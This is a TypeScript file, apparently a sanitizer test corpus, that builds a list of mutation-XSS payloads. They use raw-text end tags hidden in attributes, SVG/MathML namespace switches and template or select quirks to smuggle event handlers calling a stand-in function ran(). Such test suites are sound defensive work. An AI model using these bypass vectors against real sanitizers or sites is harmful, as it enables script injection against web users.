/**
 * HTML that means one thing when it is looked at and another when it is read again: raw text that ends early, elements
 * that change namespace, what is moved or taken out on the way.
 */

/** Elements whose content is text until their end tag, in each of which the end hides inside something else. */
const rawText =
  'style script xmp iframe noembed noframes noscript textarea title plaintext listing'.split(' ');

const hidden = '<img src=x onerror=ran()>';

/** Ways from HTML into SVG and MathML, with the points where HTML begins again. */
const ways = [
  '<svg>',
  '<svg></p>',
  '<svg><desc>',
  '<svg><title>',
  '<svg><foreignobject>',
  '<svg><foreignObject><p>',
  '<svg><annotation-xml><foreignobject>',
  '<svg><xss><desc>',
  '<math>',
  '<math></p>',
  '<math></br>',
  '<math><mi>',
  '<math><mtext>',
  '<math><mtext><table>',
  '<math><mtext><table><mglyph>',
  '<math><mtext><mglyph><malignmark>',
  '<math><mtext><option><FAKEFAKE><option></option><mglyph>',
  '<math><mtext><h1><a><h6></a></h6><mglyph>',
  '<math><annotation-xml encoding="text/html"><p>',
  '<math><annotation-xml encoding="application/xhtml+xml"><svg>',
  '<form><math><mtext></form><form><mglyph>',
  '<form><math><mtext></form><form><mglyph><svg><mtext>',
  '<svg></p><math><title>',
  '<svg><math>',
  '<math><svg><mi>',
  '<select><template>',
  '<table><colgroup><template>',
  '<select><button><selectedcontent>',
];

/** The payloads at the end of these ways. */
const ends = [
  `<style><img src=x onerror=ran()>`,
  `<style><a title="</style>${hidden}">`,
  `<style><!--</style><a title="--&gt;&lt;img src=x onerror=ran()&gt;">`,
  `<textarea><path id="</textarea><img onerror=ran() src>">`,
  `<title><a id="</title>${hidden}"></textarea>`,
  `<template><style></title>${hidden}`,
  `<noscript>&lt;/noscript>&lt;/desc>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror=ran()>">`,
  `<![CDATA[><image xlink:href="]]><img src=x onerror=ran()//">`,
  `<!-- --><style><p title="</style><iframe onload&#x3d;ran()<!--"></style>`,
  `<xmp><b title='</xmp>${hidden}'>`,
];

const single = [
  `<listing>&lt;img onerror="ran();//" src=x&gt;<t t></listing>`,
  `<textarea>x</textarea><!--</textarea>${hidden}-->`,
  `<b><noscript><!-- </noscript><img src=x onerror=ran() --></noscript>`,
  `<b><noscript><a alt="</noscript>${hidden}"></noscript>`,
  `<noscript><p id='><noscript />${hidden}'></noscript>`,
  `<noembed><p id='</noembed>${hidden}'></p></noembed>`,
  `<noframes><svg><b><xmp><b title='</xmp><img>`,
  `<xmp><svg><b><style><b title='</style><img>'>`,
  `<noembed><svg><b><style><b title='</style><img>'>`,
  `<body><template><s><template><s>${hidden}x</s></template></s></template>`,
  `<select><template>${hidden}</template></select>`,
  `<template shadowrootmode=open>${hidden}</template>`,
  `<div><template shadowroot=open>${hidden}</template></div>`,
  `<select><button><selectedcontent></selectedcontent></button><option>${hidden}</option></select>`,
  `<select><option selected><b title="</selectedcontent>${hidden}">x</option><button><selectedcontent></button></select>`,
  `<option><style></option></select><b>${hidden}</style></option>`,
  `<option><iframe></select><b><script>ran()</script>`,
  `<b><style><style/>${hidden}`,
  `<b><style><style////>${hidden}</style>`,
  `<a>1</a><option><style>${hidden}`,
  `<svg><style><img/src=x onerror=ran()// </b>`,
  `<svg></p><style><g title="</style>`,
  `<svg></p><title><a href="</title>qqq`,
  `<math><mtext><table><mglyph><style><math href=javascript:ran()>CLICKME</math>`,
  `<form><math><mi><mglyph></form><form>`,
  `<svg><blocKquote>x</blocKquote>`,
  `<svg><blocKquote onclick=ran()>x`,
  `<svg><desc><canvas></canvas><textarea></textarea></desc></svg>`,
  `<math><canvas></canvas><textarea></textarea></math>`,
  `<svg><math></math><title><math></math></title></svg>`,
  `<math><svg></svg><mi><svg></svg></mi></math>`,
  `<math><mi//xlink:href="data:x,<script>ran()</script>">`,
  `<TABLE><tr><td>x</tr></TABL>${hidden}`,
  `<p><button><p>${hidden}</p></button></p>`,
  `<a href="/1"><object><a href="javascript:ran()">x</a></object></a>`,
  `<a href="/1"><table><td><a href="javascript:ran()">x</a></table></a>`,
  `<p>x<table><p>${hidden}</table>`,
  `<table><style><!--</style>${hidden}--></table>`,
  `<div id=d><x xmlns="><iframe onload=ran()"></div>`,
  `<div id=d><x xmlns='"><iframe onload=ran()//'></div>`,
  `<input value="\`\`onmouseover=ran()">`,
  `<p title="\`\`onmouseover=ran()">x</p>`,
  `<!-- \`<img/src=xx:xx onerror=ran()//--!>x`,
  `<pre>\n\n${hidden}</pre>`,
  `<textarea>\n\n</textarea>${hidden}`,
  `<p title="a&#13;b&#10;c">x</p>`,
  `<div style="font-family:'sans\\27\\2f\\2a\\22\\2a\\2f\\3b color\\3ared\\3b'">x</div>`,
  `<b data-x="<span>x</span>">y</b>`,
  `<a title="x</style>y">z</a>`,
  `<div title="</noscript>${hidden}">x</div>`,
  `<p title="--><img src=x onerror=ran()>">x</p>`,
  `<p title="]]><img src=x onerror=ran()>">x</p>`,
  `<math></math><table><caption><svg><style><img src=x onerror=ran()>`,
];

export const mutations: string[] = [
  ...rawText.map((name) => `<${name}><a title="</${name}>${hidden}">x</a></${name}>`),
  ...rawText.map((name) => `<${name}>&lt;/${name}&gt;${hidden.replaceAll('<', '&lt;')}</${name}>`),
  ...rawText.map((name) => `<svg><${name}><b title="</${name}>${hidden}">x`),
  ...ways.flatMap((way) => ends.map((end) => way + end)),
  ...single,
];
